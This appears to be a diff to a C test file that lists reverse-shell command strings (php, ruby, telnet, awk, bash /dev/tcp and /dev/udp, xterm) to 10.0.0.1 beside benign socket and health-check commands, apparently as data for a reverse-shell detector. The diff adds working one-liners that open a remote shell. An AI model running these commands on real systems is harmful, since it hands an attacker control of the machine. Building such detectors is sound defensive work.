@@ -88,7 +88,10 @@ static const char *const REVERSE[] = {
 	"php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
 	"ruby -rsocket -e'f=TCPSocket.open(\"10.0.0.1\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
 	"telnet 10.0.0.1 4444 | /bin/sh | telnet 10.0.0.1 4445",
-	"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c;",
+	"awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.1/4242\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; "
+	"if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
+	"exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
+	"sh -i >& /dev/udp/10.0.0.1/4242 0>&1",
 	"xterm -display 10.0.0.1:1",
 };
 
@@ -102,6 +105,11 @@ static const char *const BENIGN[] = {
 	"test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
 	"if [ \"$PS1\" ]; then if [ \"$BASH\" ] && [ \"$BASH\" != \"/bin/sh\" ]; then PS1='\\h:\\w\\$ '; fi; fi",
 	"mkfifo /run/app.fifo",
+	"(echo -n > /dev/tcp/$WAITFORIT_HOST/$WAITFORIT_PORT) >/dev/null 2>&1",
+	"timeout 15 bash -c 'until printf \"\" 2>>/dev/null >>/dev/tcp/$0/$1; do sleep 1; done' db 5432",
+	"exec 3<>/dev/tcp/localhost/80; echo -e 'GET /health HTTP/1.0\\r\\n' >&3; cat <&3",
+	"exec python -m gunicorn --bind unix:/run/gunicorn.socket --workers 3 app:app",
+	"python3 -c 'import socket; print(socket.gethostname())'",
 	"curl -fsS http://localhost:8080/health || exit 1",
 	"",
 };
